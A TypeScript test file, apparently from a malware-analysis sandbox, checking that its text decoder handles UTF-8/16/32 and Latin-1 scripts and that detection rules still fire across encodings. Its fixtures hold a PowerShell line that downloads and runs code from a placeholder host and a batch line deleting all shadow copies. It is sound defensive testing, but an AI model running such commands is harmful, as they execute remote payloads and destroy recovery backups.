import { afterAll, describe, expect, test } from 'vitest';
import { loadEngine } from '../sandbox-runner/engine.ts';
import { identify } from '../sandbox-runner/identify.ts';
import { signalsOf } from '../sandbox-runner/signals.ts';
import { plainText, type Encoding } from '../sandbox-runner/static/plain-text.ts';

const engine = await loadEngine();
afterAll(async () => await engine.close());

const big = (text: string) => Buffer.from(text, 'utf16le').swap16();
const four = (text: string, little: boolean) => Buffer.concat([...text].map((letter) => {
  const bytes = Buffer.alloc(4);
  if (little) bytes.writeUInt32LE(letter.codePointAt(0)!);
  else bytes.writeUInt32BE(letter.codePointAt(0)!);
  return bytes;
}));
const ways: [name: string, encoding: Encoding, mark: string, write: (text: string) => Buffer][] = [
  ['UTF-8', 'utf-8', 'efbbbf', (text) => Buffer.from(text)], ['UTF-16, little end first,', 'utf-16le', 'fffe', (text) => Buffer.from(text, 'utf16le')], ['UTF-16, big end first,', 'utf-16be', 'feff', big],
  ['UTF-32, little end first,', 'utf-32le', 'fffe0000', (text) => four(text, true)], ['UTF-32, big end first,', 'utf-32be', '0000feff', (text) => four(text, false)],
];
const forms = ways.flatMap(([name, encoding, mark, write]) => [[`${name} with a mark`, encoding, Buffer.from(mark, 'hex'), write] as const, [`${name} without a mark`, encoding, Buffer.alloc(0), write] as const]);
const rulesOf = async (bytes: Buffer, name: string) => {
  const { signals, written } = await engine.examiner.examine(bytes, name);
  return signalsOf(engine.sigma, { found: signals, written, runs: [] }).map((one) => one.rule);
};
const loader = "$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('http://files.example-host.net/a'))\r\n";
const cleaner = '@echo off\r\nrem tidy up\r\nvssadmin delete shadows /all /quiet\r\n';

describe('a text', () => {
  test.each(forms)('in %s is read as what it says', (_name, encoding, mark, write) => {
    const text = 'first line – naïve\r\nsecond line with some words\r\n';
    expect(plainText(Buffer.concat([mark, write(text)]))).toEqual({ text, encoding, mark: mark.length });
  });
  test.each(forms)('in %s gives the signals that it gives in plain bytes', async (_name, _encoding, mark, write) => {
    for (const [text, name] of [[loader, 'a.ps1'], [cleaner, 'a.bat']] as const) {
      const plain = await rulesOf(Buffer.from(text), name);
      expect(plain.length).toBeGreaterThan(0);
      expect(await rulesOf(Buffer.concat([mark, write(text)]), name)).toEqual(expect.arrayContaining(plain));
    }
  });
  test('with a NUL, or filled up with them, is the text without them', async () => {
    for (const bytes of [Buffer.from(`' a \0 b\r\n${'x = 1\r\n'.repeat(20)}`), Buffer.concat([Buffer.from('x = 1\r\n'), Buffer.alloc(500)])]) {
      expect((await identify(bytes, 'a.vbs')).format).toBe('vbs');
      expect(plainText(bytes)!.text).not.toContain('\0');
    }
  });
  test('in Latin-1 keeps its letters, and the mark of UTF-16 before plain bytes is passed over', () => {
    expect(plainText(Buffer.from('caf\xe9 cr\xe8me', 'latin1'))).toMatchObject({ text: 'café crème', encoding: 'latin1' });
    expect(plainText(Buffer.from('\xff\xfe@echo off\r\nver\r\n', 'latin1'))).toMatchObject({ text: '@echo off\r\nver\r\n', mark: 2 });
  });
  test('is no picture, no program and no noise', () => {
    for (const bytes of ['89504e470d0a1a0a0000000d49484452', '4d5a90000300000004000000ffff0000', '0001020304050607', '', '00000000']) expect(plainText(Buffer.from(bytes, 'hex'))).toBeNull();
  });
  test('that doubles takes at most a little more than twice as long', () => {
    const time = (bytes: Buffer) => {
      const from = performance.now();
      plainText(bytes);
      return performance.now() - from;
    };
    const line = 'a line of text with a \0\r\n';
    for (const write of ways.map(([, , , way]) => way)) {
      const [once, twice] = [20_000, 40_000].map((count) => write(line.repeat(count)));
      time(once!);
      expect(time(twice!)).toBeLessThan(4 * time(once!) + 100);
    }
  });
});
